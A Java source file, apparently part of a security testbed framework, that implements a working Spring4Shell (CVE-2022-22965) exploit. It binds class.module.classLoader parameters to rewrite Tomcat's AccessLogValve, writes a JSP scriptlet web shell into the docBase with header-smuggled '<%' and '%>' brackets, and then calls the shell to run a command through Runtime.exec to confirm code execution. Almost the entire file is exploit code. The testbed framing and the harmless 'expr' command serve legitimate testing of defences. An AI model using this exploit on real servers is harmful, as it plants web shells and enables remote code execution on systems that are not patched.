package secplane.testbeds.attacks;

import java.io.IOException;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.ThreadLocalRandom;
import java.util.stream.Collectors;

/**
 * Spring4Shell, CVE-2022-22965: on JDK 9+, Spring Framework before 5.3.18 binds request
 * parameters through {@code class.module.classLoader}, which on Tomcat before 9.0.62 leads to the
 * Host's first valve, the AccessLogValve. Rewriting its pattern, directory, prefix and suffix makes
 * Tomcat write a JSP into the docBase; header references ({@code %{c1}i}) smuggle in {@code <%}
 * and {@code %>}, which the pattern syntax cannot carry.
 *
 * <p>Exploited means the JSP file exists under the docBase and holds the scriptlet: the write is
 * the attacker's foothold. The attack then requests the JSP, which runs {@code expr a + b} with two
 * random numbers; the sum in the reply proves code execution and is reported in the evidence.
 * Finally, unlike a real attacker, it points the valve back at Tomcat's defaults so that later
 * requests stop appending to the JSP and a repeated run works the same way.
 */
public final class Spring4ShellAttack implements Attack {

    private static final String VALVE = "class.module.classLoader.resources.context.parent.pipeline.first.";
    private static final String SHELL_MARK = "SECPLANE-SHELL";
    /** Between {@code %{c1}i} and {@code %{c2}i}; must contain no {@code %}, which the pattern would parse. */
    private static final String SCRIPTLET = " out.print(\"" + SHELL_MARK + "[\" + new java.util.Scanner("
            + "Runtime.getRuntime().exec(new String[]{\"expr\", request.getParameter(\"a\"), \"+\","
            + " request.getParameter(\"b\")}).getInputStream()).next() + \"]\"); ";
    private static final String SCRIPTLET_IN_FILE = "<%" + SCRIPTLET + "%>";
    /** AccessLogValve checks for rotation at most once a second; the new file opens on the next log. */
    private static final Duration ROTATION_CHECK = Duration.ofMillis(1100);

    private final Duration writeWait;

    /** Waits up to 8 seconds for the JSP to be written. */
    public Spring4ShellAttack() {
        this(Duration.ofSeconds(8));
    }

    public Spring4ShellAttack(Duration writeWait) {
        this.writeWait = writeWait;
    }

    @Override
    public String name() {
        return "spring4shell";
    }

    @Override
    public String reference() {
        return "CVE-2022-22965";
    }

    @Override
    public AttackResult fire(Testbed target) throws Exception {
        String prefix = "secplane-shell-" + UUID.randomUUID().toString().substring(0, 8);
        Path jsp = target.docBase().resolve(prefix + ".jsp");

        Map<String, String> valve = new LinkedHashMap<>();
        valve.put("pattern", "%{c1}i" + SCRIPTLET + "%{c2}i");
        valve.put("suffix", ".jsp");
        valve.put("directory", target.docBase().toString());
        valve.put("prefix", prefix);
        // An empty date stamp differs from the current one, which forces the valve to open the new file.
        valve.put("fileDateFormat", "");
        valve.put("buffered", "false");
        HttpResponse<String> binding = target.send(bind(target, valve));

        boolean written = false;
        long deadline = System.nanoTime() + writeWait.toNanos();
        while (!written && System.nanoTime() < deadline) {
            Thread.sleep(ROTATION_CHECK.toMillis());
            // Any request is logged with the new pattern; its headers supply the scriptlet's brackets.
            target.send(HttpRequest.newBuilder(target.uri("/health")).header("c1", "<%").header("c2", "%>").GET());
            written = containsScriptlet(jsp);
        }
        if (!written) {
            return new AttackResult(name(), false, binding.statusCode(), "no JSP with the scriptlet at " + jsp
                    + " within " + writeWait.toMillis() + " ms (binding request answered " + binding.statusCode() + ")");
        }

        String execution = runShell(target, prefix);
        String reset = resetValve(target, jsp) ? "valve reset to Tomcat's defaults" : "valve still logs into the JSP";
        return new AttackResult(name(), true, binding.statusCode(),
                "AccessLogValve wrote a JSP scriptlet to " + jsp + "; " + execution + "; " + reset);
    }

    private static boolean containsScriptlet(Path jsp) throws IOException {
        return Files.isRegularFile(jsp) && Files.readString(jsp, StandardCharsets.ISO_8859_1).contains(SCRIPTLET_IN_FILE);
    }

    private static String runShell(Testbed target, String prefix) throws IOException, InterruptedException {
        int a = ThreadLocalRandom.current().nextInt(1000, 100000);
        int b = ThreadLocalRandom.current().nextInt(1000, 100000);
        HttpResponse<String> shell = target.send(
                HttpRequest.newBuilder(target.uri("/" + prefix + ".jsp?a=" + a + "&b=" + b)).GET());
        String expected = SHELL_MARK + "[" + (a + b) + "]";
        return shell.body().contains(expected)
                ? "requesting it ran 'expr " + a + " + " + b + "' on the server and returned " + expected
                : "requesting it did not run the command (HTTP " + shell.statusCode() + ")";
    }

    /**
     * Points the valve back at logs/localhost_access_log.DATE.txt. The new date format only takes
     * effect at the valve's next rotation check, so requests follow until the JSP stops growing;
     * otherwise a following run would set the empty date stamp again before any rotation and its
     * file would never be opened. The valve stays unbuffered, so the JSP's growth is visible at once.
     */
    private boolean resetValve(Testbed target, Path jsp) throws IOException, InterruptedException {
        Map<String, String> defaults = new LinkedHashMap<>();
        defaults.put("pattern", "%h %l %u %t \"%r\" %s %b");
        defaults.put("directory", "logs");
        defaults.put("prefix", "localhost_access_log");
        defaults.put("suffix", ".txt");
        defaults.put("fileDateFormat", ".yyyy-MM-dd");
        target.send(bind(target, defaults));
        long deadline = System.nanoTime() + writeWait.toNanos();
        while (System.nanoTime() < deadline) {
            Thread.sleep(ROTATION_CHECK.toMillis());
            long before = Files.size(jsp);
            target.send(HttpRequest.newBuilder(target.uri("/health")).GET());
            if (Files.size(jsp) == before) {
                return true;
            }
        }
        return false;
    }

    private static HttpRequest.Builder bind(Testbed target, Map<String, String> valveProperties) {
        String form = valveProperties.entrySet().stream()
                .map(e -> encode(VALVE + e.getKey()) + "=" + encode(e.getValue()))
                .collect(Collectors.joining("&"));
        return HttpRequest.newBuilder(target.uri("/greeting"))
                .header("Content-Type", "application/x-www-form-urlencoded")
                .POST(HttpRequest.BodyPublishers.ofString(form));
    }

    private static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }
}
